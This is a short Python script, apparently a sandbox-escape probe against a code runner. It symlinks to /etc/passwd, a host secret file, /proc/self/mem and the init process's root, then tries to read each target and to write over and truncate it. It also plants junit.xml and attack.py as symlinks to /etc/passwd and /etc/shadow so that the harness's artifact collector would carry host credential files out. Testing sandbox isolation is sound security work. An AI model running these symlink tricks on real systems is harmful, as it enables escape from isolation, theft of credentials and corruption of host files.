import os

from evidence import attempt, host, read, write

targets = {"passwd": "/etc/passwd", "secret": host["secret_path"], "runner": "/promptcraft-runner", "etc": "/etc",
           "mem": "/proc/self/mem", "init_root": "/proc/1/root"}
for name, target in targets.items():
    os.symlink(target, name)
    attempt(f"read_{name}", lambda: os.listdir(name) if name in ("etc", "init_root") else read(name))
    attempt(f"write_{name}", lambda: write(name, b"x", os.O_WRONLY | os.O_CREAT | os.O_TRUNC))
# Left in place of what a collector might pick up.
os.symlink("/etc/passwd", "junit.xml")
os.unlink("attack.py") if os.path.exists("attack.py") else None
os.symlink("/etc/shadow", "attack.py")
